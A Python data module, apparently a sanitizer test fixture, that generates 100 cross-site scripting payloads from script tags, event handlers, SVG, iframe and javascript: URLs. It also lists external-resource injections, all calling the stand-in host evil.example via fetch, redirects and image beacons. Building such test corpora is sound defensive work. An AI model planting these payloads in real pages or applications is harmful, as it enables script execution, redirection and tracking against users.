"""A hundred ways in which text has been made to run script or to ask for something on a page."""

FIRES = "window.hit=1"
ASKS = "fetch('https://evil.example/a')"
LEADS = "location='https://evil.example/b'"
LOADS = "(new(Image)).src='https://evil.example/c'"

SHAPES = (
    "<script>{}</script>",
    "<SCRIPT >{}</SCRIPT >",
    "<script type=module>{}</script>",
    "</title></p></section></main><script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    '"><script>{}</script>',
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<IMG SRC=x OnErRoR={}>",
    "<img/src/onerror={}>",
    "<svg onload={}></svg>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></animate></svg>",
    "<body onload={}>",
    "<details open ontoggle={}><summary>x</summary></details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<input autofocus onfocus={}>",
    '<iframe srcdoc="<script>with(parent){}</script>"></iframe>',
    '<iframe src="javascript:with(parent){}"></iframe>',
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={}>x</b>",
    '<a href="javascript:{}">x</a>',
    "[x](<javascript:{}>)",
)
CODES = (FIRES, ASKS, LEADS, LOADS)
SCRIPTS = tuple(shape.format(code) for shape in SHAPES for code in CODES)

LEADING_AWAY = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<META http-equiv=refresh content="0; url=https://evil.example/">',
    "<!--><meta http-equiv=refresh content=0;https://evil.example/>-->",
    '<base href="https://evil.example/"><img src="x.png">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<link rel=prefetch href=https://evil.example/x>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object>',
    '<embed src="https://evil.example/">',
    '<img src="https://evil.example/x.png">',
    "![x](https://evil.example/x.png)",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<b style="background:url(https://evil.example/x.png)">x</b>',
    '<form action="https://evil.example/"><input autofocus></form>',
    '<video poster="https://evil.example/x.png"></video>',
    "<svg><image href='https://evil.example/x.png'></image></svg>",
)
